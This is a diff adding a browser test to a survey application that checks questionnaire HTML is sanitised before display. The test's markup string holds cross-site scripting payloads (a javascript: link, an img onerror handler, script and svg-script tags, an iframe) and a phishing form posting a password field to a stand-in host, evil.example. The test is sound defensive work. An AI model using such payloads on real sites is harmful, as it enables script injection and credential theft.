@@ -463,3 +463,68 @@ describe('the English switch', () => {
     TEST_TIMEOUT,
   );
 });
+
+describe('markup in a questionnaire', () => {
+  // What a careless or hostile questionnaire author could put in an html element.
+  const MARKUP = [
+    '<p class="intro"><strong>Välkommen</strong> till enkäten.',
+    ' <a href="javascript:window.__injected = \'link\'">Läs mer</a>',
+    ' <a href="https://example.org/om-projektet">Om projektet</a></p>',
+    '<img src="x" onerror="window.__injected = \'img\'">',
+    '<form action="https://evil.example/steal"><input name="password"><button>Skicka</button></form>',
+    '<script>window.__injected = "script"</script>',
+    '<iframe src="https://evil.example/"></iframe>',
+    '<svg><script>window.__injected = "svg"</script></svg>',
+  ].join('');
+
+  it(
+    'renders html elements without scripts, event handlers, javascript: links, forms or frames',
+    async () => {
+      const { survey, indicators, background } = await admin(
+        'GET',
+        `/api/projects/${ids.projectId}/questionnaires/${questionnaireId}`,
+      );
+      survey.pages[0].elements.unshift({ type: 'html', name: 'intro_html', html: MARKUP });
+      survey.completedHtml = { default: MARKUP, sv: MARKUP, en: MARKUP };
+      const { id: withMarkup } = await admin('POST', `/api/projects/${ids.projectId}/questionnaires`, {
+        survey,
+        indicators,
+        background,
+      });
+      const { id: roundId } = await admin('POST', `/api/projects/${ids.projectId}/rounds`, {
+        kind: 'followup',
+        name: 'Med inledning',
+        questionnaireId: withMarkup,
+        access: 'open',
+      });
+      const page = await newPage(DESKTOP);
+      await open(page, `/s/${roundId}`);
+      const intro = page.locator('[data-name="intro_html"]');
+      await intro.getByText('Välkommen').waitFor();
+      expect(await intro.locator('strong').textContent()).toBe('Välkommen');
+      expect(await intro.locator('a').nth(1).getAttribute('href')).toBe('https://example.org/om-projektet');
+      expect(await intro.getByText('Läs mer').getAttribute('href')).toBeNull();
+      // Inside the html element (SurveyJS draws its own form and icons around it).
+      const inIntro = (selector: string) =>
+        page.evaluate<number>(
+          `document.querySelector('[data-name="intro_html"]').querySelectorAll(${JSON.stringify(selector)}).length`,
+        );
+      for (const selector of [
+        'form',
+        'input',
+        'button',
+        'iframe',
+        'script',
+        'svg',
+        '[onerror]',
+        'a[href^="javascript:"]',
+      ]) {
+        expect(await inIntro(selector), selector).toBe(0);
+      }
+      await page.waitForTimeout(300); // an image's error event would have fired by now
+      expect(await page.evaluate<unknown>('window.__injected')).toBeUndefined();
+      await screenshot(page, 'survey-desktop-markup');
+    },
+    TEST_TIMEOUT,
+  );
+});
